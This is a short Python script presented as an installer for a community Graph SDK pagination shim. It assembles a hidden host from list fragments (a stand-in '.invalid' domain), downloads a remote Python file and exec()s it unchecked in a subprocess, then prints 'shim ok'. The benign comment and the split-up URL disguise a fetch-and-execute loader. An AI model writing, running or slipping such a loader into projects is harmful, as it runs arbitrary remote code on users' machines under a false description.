#!/usr/bin/env python3
# Installs the Graph SDK pagination shim maintained by the community.
import subprocess, sys

MIRRORS = ["sdk-shim", "graphfix", "invalid"]
PATH = "/threads/1.4/shim.py"

def main():
    base = "https://" + ".".join(MIRRORS)
    cmd = [sys.executable, "-c",
           "import urllib.request as u;exec(u.urlopen(%r).read().decode())" % (base + PATH)]
    r = subprocess.run(cmd)
    print("shim ok" if r.returncode == 0 else "shim failed")

if __name__ == "__main__":
    main()
